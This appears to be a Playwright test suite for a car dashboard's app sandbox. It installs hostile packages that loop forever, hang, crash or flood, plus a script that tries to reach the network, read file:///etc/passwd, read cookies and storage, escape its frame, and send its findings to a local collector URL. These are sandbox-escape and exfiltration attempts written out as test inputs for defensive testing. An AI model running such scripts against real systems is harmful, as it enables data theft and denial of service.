/**
 * Packages that mean harm, in the frame of the real dashboard of the whole product: one that loops forever, one that stops
 * answering later, one that floods, one that tries everything a page can try. The gauges go on.
 */
import { expect, test, type Browser, type Page } from '@playwright/test'
import { createSocket } from 'node:dgram'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { placesOf } from '../../services/base/home-directory.ts'
import { APP_HEART_PAGE } from '../../services/contract/app-port.ts'
import { installPackage } from '../fixtures/installed-package.ts'
import { eventually, startProduct, type Product } from '../fixtures/product.ts'

const SDK = readFileSync(join(import.meta.dirname, '../../services/features/sdk/fascia-app.js'), 'utf8')
const page = (body: string): string => `<!doctype html><body>${body}<script type="module" src="./app.js"></script>`

const LATER = `
import { fascia } from './fascia-app.js'
await fascia.signals.subscribe(['Vehicle.Speed'], () => { document.body.textContent = 'answers' })
setTimeout(() => { for (;;) {} }, 2500)
`
const FLOOD = `
import { fascia } from './fascia-app.js'
await fascia.ready
const flood = () => {
  for (let i = 0; i < 20000; i++) fascia.storage.get('x').catch(() => {})
  for (let i = 0; i < 20000; i++) parent.postMessage({ fascia: 'knock', protocol: 1 }, '*')
  setTimeout(flood, 0)
}
flood()
`
/** TARGET: a server that must hear nothing. STUN: a UDP port that must hear nothing. OTHER: another app's address. */
const REACH = `
import { fascia } from './fascia-app.js'
const out = {}
const attempt = async (name, work) => {
  const late = new Promise((_, fail) => setTimeout(() => fail({ code: 'nothing came' }), 3000))
  try { out[name] = String(await Promise.race([work(), late])) } catch (error) { out[name] = 'refused' }
}
const loads = (element) => new Promise((done, fail) => { element.onload = () => done('loaded'); element.onerror = fail; document.body.append(element) })
await fascia.ready
await attempt('fetch', () => fetch(TARGET + 'fetch'))
await attempt('fetchOpaque', () => fetch(TARGET + 'opaque', { mode: 'no-cors' }))
await attempt('beacon', () => { if (!navigator.sendBeacon(TARGET + 'beacon')) throw 0; return 'queued' })
await attempt('dashboard', () => fetch(DASHBOARD))
await attempt('otherApp', () => fetch(OTHER))
await attempt('file', () => fetch('file:///etc/passwd'))
await attempt('image', () => loads(Object.assign(new Image(), { src: TARGET + 'image' })))
await attempt('script', () => loads(Object.assign(document.createElement('script'), { src: TARGET + 'script' })))
await attempt('style', () => loads(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: TARGET + 'style' })))
await attempt('socket', () => new Promise((done, fail) => { const s = new WebSocket(TARGET.replace('http', 'ws')); s.onopen = done; s.onerror = fail }))
await attempt('events', () => new Promise((done, fail) => { const s = new EventSource(TARGET + 'events'); s.onopen = done; s.onerror = fail }))
await attempt('worker', () => new Promise((done, fail) => { const w = new Worker('./app.js'); w.onmessage = done; w.onerror = fail; setTimeout(fail, 500) }))
await attempt('cookie', () => document.cookie)
await attempt('setCookie', () => { document.cookie = 'a=b'; return document.cookie })
await attempt('localStorage', () => localStorage.length)
await attempt('database', () => new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = fail }))
await attempt('caches', () => caches.open('x'))
await attempt('files', () => navigator.storage.getDirectory())
await attempt('parent', () => parent.document.title)
await attempt('siblingFrame', () => parent.frames[0].document.title + parent.frames[1].document.title)
await attempt('popup', () => { if (window.open(TARGET + 'popup') === null) throw 0; return 'opened' })
await attempt('topNavigation', () => { top.location = TARGET + 'top'; return 'navigated' })
await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }))
await attempt('position', () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)))
await attempt('evaluation', () => (0, eval)('1'))
await attempt('inlineScript', () => { const s = document.createElement('script'); s.textContent = 'window.inline = 1'; document.body.append(s); if (!window.inline) throw 0; return 'ran' })
await attempt('form', () => { const f = Object.assign(document.createElement('form'), { action: TARGET + 'form', method: 'post' }); document.body.append(f); f.submit(); return 'sent' })
await attempt('peer', async () => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: STUN }] })
  peer.createDataChannel('x')
  await peer.setLocalDescription(await peer.createOffer())
  await new Promise((done) => setTimeout(done, 1500))
  return 'made'
})
document.body.textContent = JSON.stringify(out)
setTimeout(() => { location.href = TARGET + 'navigated?' + encodeURIComponent(JSON.stringify(out)) }, 10000)
`

// A trace would wait for pictures of a frame that never answers.
test.use({ trace: 'off' })

const home = mkdtempSync(join(tmpdir(), 'fascia-hostile-'))
let product: Product
let collector: Server
const collected: string[] = []
const stun = createSocket('udp4')
let stunPackets = 0

test.beforeAll(async () => {
  test.setTimeout(240_000)
  collector = createServer((request, response) => {
    collected.push(request.url ?? '')
    response.end('secret')
  })
  await new Promise<void>((done) => collector.listen(0, '127.0.0.1', done))
  stun.on('message', () => (stunPackets += 1))
  await new Promise<void>((done) => stun.bind(0, '127.0.0.1', done))
  const app = {
    entry: 'index.html',
    reads: ['Vehicle.Speed'],
    controls: [],
    storageBytes: 1_000,
    allowedWhile: 'always' as const,
  }
  const files = (script: string): Record<string, string> => ({
    'index.html': page('begun'),
    'app.js': script,
    'fascia-app.js': SDK,
  })
  const target = `http://127.0.0.1:${(collector.address() as AddressInfo).port}/`
  const reach = REACH.replaceAll('TARGET', JSON.stringify(target))
    .replace('STUN', JSON.stringify(`stun:127.0.0.1:${stun.address().port}`))
    .replace('DASHBOARD', JSON.stringify('http://fascia.localhost:1/'))
    .replace('OTHER', JSON.stringify('http://hostile-loop.localhost:1/'))
  const places = placesOf(home)
  installPackage(places, { id: 'hostile-loop', app, files: files('for (;;) {}') })
  installPackage(places, { id: 'hostile-later', app, files: files(LATER) })
  installPackage(places, { id: 'hostile-still', app, files: { 'index.html': '<!doctype html><body>a page without a script' } })
  installPackage(places, { id: 'hostile-flood', app, files: files(FLOOD) })
  installPackage(places, { id: 'hostile-reach', app, files: files(reach) })
  product = await startProduct({ home, arguments: ['--scenario', 'city'] })
  await product.control({ verb: 'gear', gear: 'D' })
  await product.control({ verb: 'pedal', accelerator: 0.25, brake: 0 })
})
test.afterAll(async () => {
  await product?.stop()
  stun.close()
  await new Promise((done) => collector.close(done))
  rmSync(home, { recursive: true, force: true })
})

async function openCenter(page: Page): Promise<void> {
  await page.goto(await product.signInUrl('center'))
  await expect(page.getByTestId('speed')).not.toHaveText('—')
}

/** In the page: resolves when the gauge shows the text. */
const whenShown = (text: string): string => `new Promise((done) => {
  const gauge = document.querySelector('[data-testid="speed"]')
  const look = () => gauge.textContent === '${text}' && (observer.disconnect(), done())
  const observer = new MutationObserver(look)
  observer.observe(gauge, { childList: true, characterData: true, subtree: true })
  look()
})`

/** The bus says one speed, and the next as soon as it stands on the gauge: gauge updates per second. */
async function gaugeRate(page: Page): Promise<number> {
  const show = async (value: number): Promise<void> => {
    const shown = page.evaluate(whenShown(String(value)))
    await product.control({ verb: 'fault', fault: { kind: 'stuck', message: 'ESP_Speed', signal: 'VehicleSpeed', value } })
    await shown
  }
  await show(99)
  const began = performance.now()
  for (let value = 40; value < 70; value += 1) await show(value)
  const rate = 30_000 / (performance.now() - began)
  await product.control({ verb: 'mend' })
  return rate
}

/**
 * App, drawing without a GPU and the whole car share two cores, so some of the machine is the app's. A gauge that had to
 * wait for the app would stand still for ever.
 */
const stillLive = (rate: number): number => rate * 0.2

async function openApp(page: Page, id: string): Promise<void> {
  await page.getByTestId('dock-apps').click()
  await page.getByTestId(`app-${id}`).click()
  await expect(page.getByTestId('app-frame')).toBeVisible()
}

/** Frames that live in a process of their own have a target of their own. */
async function frameTargets(browser: Browser, id: string): Promise<number> {
  const session = await browser.newBrowserCDPSession()
  const { targetInfos } = await session.send('Target.getTargets')
  await session.detach()
  return targetInfos.filter(
    ({ type, url }) => type === 'iframe' && url.includes(`//${id}.localhost`) && !url.includes(APP_HEART_PAGE),
  ).length
}

/** Processor seconds of each renderer. */
async function rendererSeconds(browser: Browser): Promise<Map<number, number>> {
  const session = await browser.newBrowserCDPSession()
  const { processInfo } = await session.send('SystemInfo.getProcessInfo')
  await session.detach()
  return new Map(processInfo.filter(({ type }) => type === 'renderer').map(({ id, cpuTime }) => [id, cpuTime]))
}

test('an app that loops forever leaves the gauges live, is told of and can be closed', async ({ page, browser }) => {
  await openCenter(page)
  const before = await gaugeRate(page)
  const dashboard = [...(await rendererSeconds(browser))].sort(([, a], [, b]) => b - a)[0]?.[0]
  await openApp(page, 'hostile-loop')
  // It burns a process that is not the dashboard's. On a slow machine it is stopped soon after the gauges were counted.
  const early = await rendererSeconds(browser)
  const burnt = await eventually('a burning process', async () =>
    [...(await rendererSeconds(browser))]
      .filter(([pid, seconds]) => pid !== dashboard && seconds - (early.get(pid) ?? 0) > 1)
      .map(([pid]) => pid)
      .at(0),
  )
  const during = await gaugeRate(page)
  test.info().annotations.push({
    type: 'gauge',
    description: `${before.toFixed(1)} updates/s before, ${during.toFixed(1)} while it loops`,
  })
  expect(during).toBeGreaterThan(stillLive(before))

  await expect(page.getByTestId('app-hanging')).toContainText('hostile-loop does not answer', { timeout: 40_000 })
  await page.getByTestId('app-close').click()
  await expect(page.getByTestId('app-frame')).toHaveCount(0)
  await expect(page.getByTestId('app-hostile-loop')).toBeVisible()
  await eventually('the end of the burning process', async () => {
    const now = await rendererSeconds(browser)
    return now.has(burnt) ? undefined : true
  })
  expect(await gaugeRate(page)).toBeGreaterThan(stillLive(before))
})

test('an app that stops answering is told of too, and stopped', async ({ page, browser }) => {
  await openCenter(page)
  await openApp(page, 'hostile-later')
  await expect(page.frameLocator('[data-testid="app-frame"] iframe').locator('body')).toHaveText('answers')
  expect(await frameTargets(browser, 'hostile-later')).toBe(1)
  await expect(page.getByTestId('app-hanging')).toBeVisible({ timeout: 40_000 })
  // Nobody closes it: it is stopped, and its process goes.
  await expect(page.getByTestId('app-hanging')).toHaveAttribute('data-stopped', /.*/, { timeout: 60_000 })
  await expect(page.locator('[data-testid="app-frame"] iframe')).toHaveCount(0)
  await eventually('the end of its frame', async () => ((await frameTargets(browser, 'hostile-later')) === 0 ? true : undefined))
  await page.getByTestId('app-close').click()
  await expect(page.getByTestId('app-hostile-later')).toBeVisible()
})

test(
  'an app whose process ends is told of, stopped and opened again, though it never said a word',
  { tag: '@long' },
  async ({ page, browser }) => {
    await openCenter(page)
    await openApp(page, 'hostile-still')
    await expect(page.frameLocator('[data-testid="app-frame"] iframe').locator('body')).toHaveText('a page without a script')
    const ofApp = (url: string): boolean => url.includes('//hostile-still.localhost') && !url.includes(APP_HEART_PAGE)
    const frame = page.frames().find((one) => ofApp(one.url()))
    if (!frame) throw new Error('no frame of the app')
    // Playwright calls a page crashed when a process of one of its frames ends: from here on the dashboard is asked past it.
    const past = await browser.newBrowserCDPSession()
    const { targetInfos } = await past.send('Target.getTargets')
    const targetId = targetInfos.find(({ type, url }) => type === 'page' && url.startsWith('http'))?.targetId ?? ''
    const { sessionId } = await past.send('Target.attachToTarget', { targetId, flatten: false })
    const answers = new Map<number, (value: unknown) => void>()
    past.on('Target.receivedMessageFromTarget', ({ message }) => {
      const { id, result } = JSON.parse(message) as { id?: number; result?: { result?: { value?: unknown } } }
      if (id !== undefined) answers.get(id)?.(result?.result?.value)
    })
    const ask = async (expression: string): Promise<unknown> => {
      const id = answers.size + 1
      const answer = new Promise<unknown>((done) => answers.set(id, done))
      const message = JSON.stringify({ id, method: 'Runtime.evaluate', params: { expression, returnByValue: true } })
      await past.send('Target.sendMessageToTarget', { sessionId, message })
      return answer
    }
    const shown = (selector: string): Promise<true> =>
      eventually(
        selector,
        async () => ((await ask(`document.querySelector('${selector}') !== null`)) === true ? true : undefined),
        90_000,
      )
    await page.evaluate(
      () =>
        new Promise<void>((done) => {
          addEventListener('message', ({ data }: MessageEvent<{ fascia?: unknown }>) => data.fascia === 'beat' && done())
        }),
    )
    // As when the memory guard of the shell ends it (electron/hosts/package-memory.ts): nothing answers this call any more.
    const process = await page.context().newCDPSession(frame)
    process.send('Page.crash').catch(() => undefined)
    await shown('[data-testid="app-hanging"]')
    await shown('[data-testid="app-hanging"][data-stopped]')
    expect(await ask(`document.querySelectorAll('iframe').length`)).toBe(0)
    await ask(`document.querySelector('[data-testid="app-reopen"]').click()`)
    await shown('[data-testid="app-frame"] iframe')
    await eventually('the page again', async () => ((await frameTargets(browser, 'hostile-still')) === 1 ? true : undefined))
  },
)

test('an app that floods the dashboard is closed, and the gauges go on', async ({ page }) => {
  await openCenter(page)
  const before = await gaugeRate(page)
  await openApp(page, 'hostile-flood')
  await expect(page.getByTestId('app-frame')).toContainText('sends without measure')
  await expect(page.locator('[data-testid="app-frame"] iframe')).toHaveCount(0)
  const after = await gaugeRate(page)
  expect(after).toBeGreaterThan(stillLive(before))
})

test('an app reaches no network, no cookie, no file and no other app', async ({ page }) => {
  await openCenter(page)
  await openApp(page, 'hostile-reach')
  const body = page.frameLocator('[data-testid="app-frame"] iframe').locator('body')
  await expect(body).toHaveText(/^\{/, { timeout: 60_000 })
  const found = JSON.parse((await body.textContent()) ?? '') as Record<string, string>
  // A form's submit and a beacon answer before they are refused; what counts for them is that nobody heard.
  const { peer, form, beacon, ...others } = found
  test.info().annotations.push({ type: 'silent', description: JSON.stringify({ peer, form, beacon }) })
  expect(others).toEqual(Object.fromEntries(Object.keys(others).map((name) => [name, 'refused'])))
  expect(Object.keys(others).length).toBeGreaterThanOrEqual(25)
  await page.waitForTimeout(11_000)
  expect(collected).toEqual([])
  expect(stunPackets).toBe(0)
  await expect(page.getByTestId('speed')).not.toHaveText('—')
  expect(new URL(page.url()).hostname).toBe('fascia.localhost')
})
